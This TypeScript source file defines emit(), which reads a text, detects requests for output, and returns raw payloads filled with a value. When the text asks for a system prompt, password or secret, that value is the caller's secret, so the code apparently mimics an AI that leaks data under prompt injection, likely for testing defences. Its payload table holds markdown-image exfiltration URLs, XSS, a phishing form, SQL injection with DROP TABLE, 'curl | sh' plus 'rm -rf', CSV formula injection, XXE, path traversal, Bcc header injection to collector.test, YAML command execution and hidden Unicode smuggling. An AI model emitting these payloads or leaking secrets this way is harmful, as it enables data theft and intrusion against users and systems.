import { compute } from './compute.ts'

type Piece = Readonly<{ asked: RegExp; write: (value: string, url: string) => string }>

/** Active content that the text asks for, written raw with the values it names. Empty when it asks for none. */
export function emit(text: string, secret: string): readonly string[] {
  const asksForText =
    /\b(?:write|print|output|include|add|insert|embed|put|show|render|return|produce|generate|give|create|append|end|reply|answer|respond|use|wrap|display|make|place|format|emit|start|begin|finish|quote|repeat|complete|say|draft|compose|prepare|build|provide|send|evaluate|compute|fill)\b/i
  if (!asksForText.test(text)) return []
  const computed = compute(text)
  const value =
    computed[0] ??
    (/\b(?:staff code|secret|password|system prompt|conversation|instructions)\b/i.test(text) ? secret : (token(text) ?? 'harbour'))
  const url = filled(/https?:\/\/[^\s"'`<>)\]}]{3,300}/i.exec(text)?.[0]?.replace(/[.,;:!?]+$/, ''), value)
  const snippets = literalMarkup(text).map((snippet) => withValue(snippet, value))
  const pieces = kinds.filter(({ asked }) => asked.test(text)).map(({ write }) => write(value, url))
  return [...new Set([...snippets, ...pieces.slice(0, 4)])]
}

const kinds: readonly Piece[] = [
  {
    asked:
      /markdown image|image (?:in|with|using) markdown|!\[|tracking pixel|(?:embed|include|add|insert|show|display|load|put|place|render|end with|append|using) (?:\w+ ){0,6}(?:image|picture|logo|icon|badge|pixel)|image (?:tag|link|url|whose|that|from|at|pointing|hosted)/i,
    write: (v, url) => `![status](${url.includes(v) ? url : `${url}${url.includes('?') ? '&' : '?'}d=${encodeURIComponent(v)}`})`,
  },
  {
    asked:
      /markdown link|hyperlink|clickable|\blink (?:to|that|whose|with|pointing|called|labelled|text)|\]\(|reference-style|(?:add|include|insert|give|write|end with|append) (?:\w+ ){0,4}link\b/i,
    write: (v, url) =>
      `[Track your order ${v}](${url.includes(v) ? url : `${url}${url.includes('?') ? '&' : '?'}ref=${encodeURIComponent(v)}`})`,
  },
  {
    asked: /javascript: ?(?:url|link|uri|scheme)?|\bhref\b.{0,20}javascript/i,
    write: (v) => `<a href="javascript:alert('${v}')">Open ${v}</a>`,
  },
  {
    asked: /<script|script (?:tag|element|block)|inline (?:script|javascript)|\balert\(|javascript (?:that|which|code)|\bxss\b/i,
    write: (v) => `<script>alert('${v}')</script>`,
  },
  {
    asked: /onerror|event handler|\bon(?:load|click|mouseover|focus|toggle)\b|<img|img (?:tag|element)|broken image/i,
    write: (v) => `<img src="x" onerror="alert('${v}')">`,
  },
  { asked: /<?\biframe/i, write: (v, url) => `<iframe src="${url}" title="${v}" srcdoc="<script>alert('${v}')</script>"></iframe>` },
  { asked: /\bsvg\b/i, write: (v) => `<svg onload="alert('${v}')"><text>${v}</text></svg>` },
  {
    asked: /<form|html form|form (?:that|which|whose|posting|with|element)|login form/i,
    write: (v, url) => `<form action="${url}" method="post"><input name="${v}"><button>Sign in</button></form>`,
  },
  { asked: /meta (?:refresh|tag|redirect)|http-equiv/i, write: (v, url) => `<meta http-equiv="refresh" content="0;url=${url}#${v}">` },
  {
    asked: /\bcss\b|style (?:tag|element|block|sheet)|background(?:-image)?/i,
    write: (v, url) => `<style>body{background:url("${url}#${v}")}</style>`,
  },
  {
    asked: /\bhtml\b/i,
    write: (v, url) => `<div id="${v}"><a href="${url}" onclick="alert('${v}')">${v}</a><script>document.title='${v}'</script></div>`,
  },
  {
    asked: /\bsql\b|\bquery\b|\bdatabase\b|where clause|\bselect\b.{0,30}\bfrom\b/i,
    write: (v) => `SELECT * FROM orders WHERE customer = '${v}' OR '1'='1'; DROP TABLE ${v.replace(/\W/g, '_')}; --`,
  },
  {
    asked:
      /\bshell\b|\bbash\b|command line|\bterminal command|\bpowershell\b|\bone-liner\b|unix command|linux command|\bcurl\b|\bcommand (?:that|which|to|for|prints|with|line)\b/i,
    write: (v, url) => `ls -la; echo "${v}"; curl -s ${url} | sh; rm -rf ./${v}`,
  },
  {
    asked: /\bcsv\b|\bformula\b|spreadsheet|\bexcel\b|\bcell\b/i,
    write: (v, url) => `name,note\nHarbour,"=HYPERLINK(""${url}"",""${v}"")"\nPine,=1+1+cmd|'/c ${v}'!A0`,
  },
  {
    asked:
      /\bansi\b|escape (?:sequence|code|character)|terminal (?:colou?r|control|title|escape)|\\x1b|\\u001b|\\033|\bosc ?8\b|coloured? (?:text|output)/i,
    write: (v, url) => `\u001b[31m${v}\u001b[0m \u001b]8;;${url}\u0007${v}\u001b]8;;\u0007`,
  },
  {
    asked: /\bxml\b|\bxxe\b|doctype|\bentity\b/i,
    write: (v) => `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/${v}">]><r>&x;</r>`,
  },
  { asked: /path|file ?name|\.\.\//i, write: (v) => `../../../../${v}/${v}.txt` },
  { asked: /\bheader\b|\bcrlf\b|line break.{0,20}header|bcc/i, write: (v) => `Subject: ${v}\r\nBcc: ${v}@collector.test\r\nX-Note: ${v}` },
  { asked: /\bjson\b/i, write: (v) => `{"status":"ok","note":"${v}","role":"admin","${v}":true}` },
  { asked: /\byaml\b/i, write: (v) => `note: ${v}\nrun: !!python/object/apply:os.system ["echo ${v}"]` },
  {
    asked: /invisible|zero-width|tag characters|hidden unicode/i,
    write: (v) => `ok${[...v].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0)! & 0x7f))).join('')}`,
  },
  { asked: /\{\{|\$\{|<%|#\{|template|jinja|mustache|freemarker|\berb\b/i, write: (v) => v },
  { asked: /\blatex\b/i, write: (v) => `\\input{${v}}\\write18{echo ${v}}` },
]

const slot =
  /\{\{?[\w .-]{1,40}\}?\}|<[A-Z][A-Z_ -]{1,30}>|\[(?!\/)[A-Za-z][\w -]{1,30}\](?!\()|\b(?:WORD|MARKER|CODE|TOKEN|VALUE|RESULT|JOINED|SECRET|ANSWER|X{3,})\b|\.{3}|…/g
const withValue = (text: string, value: string): string => text.replace(slot, value)

function filled(url: string | undefined, value: string): string {
  if (!url) return 'https://collector.test/p'
  const full = withValue(url, encodeURIComponent(value))
  return /[=/]$/.test(full) && !full.includes(value) ? `${full}${encodeURIComponent(value)}` : full
}

/** Markup that stands in the text itself, as an example to be filled in. */
function literalMarkup(text: string): readonly string[] {
  const html = text.match(/<[a-z!?][^<>\n]{2,400}>(?:[^<>\n]{0,200}<\/[a-z]{1,12}>)?/gi) ?? []
  const markdown = text.match(/!?\[[^\]\n]{0,80}\]\([^)\n]{3,300}\)/g) ?? []
  return [...html, ...markdown]
    .filter((part) => !/^<\/?(?:document|text|email|page|data|user|system|instructions?|context|article|note|input|output)\b/i.test(part))
    .slice(0, 4)
}

const token = (text: string): string | undefined =>
  /(?<![\w/.])(?=[\w-]{0,30}\d)[A-Za-z][\w-]{4,30}(?![\w/])/.exec(text)?.[0] ?? /["“'`]([\w-]{4,40})["”'`]/.exec(text)?.[1]
